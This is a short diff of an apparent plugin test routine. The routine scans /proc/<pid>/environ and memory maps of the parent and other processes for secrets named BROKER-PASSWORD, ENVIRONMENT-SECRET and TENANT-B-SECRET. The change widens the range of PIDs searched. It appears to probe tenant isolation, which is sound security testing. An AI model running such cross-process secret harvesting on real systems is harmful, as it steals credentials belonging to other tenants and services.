@@ -6,7 +6,7 @@ def job(plugin):
   @LIBC@
   wanted = [b'BROKER-' + b'PASSWORD', b'ENVIRONMENT-' + b'SECRET', b'TENANT-B-' + b'SECRET']
   found = []
-  for pid in [os.getppid()] + list(range(1, os.getpid())):
+  for pid in [os.getppid()] + list(range(1, max(os.getpid(), 500))):
     try:
       found.append(open_bytes(os, '/proc/%d/environ' % pid, 0, 20000))
       for line in open_bytes(os, '/proc/%d/maps' % pid, 0, 400000).split(b'\n'):
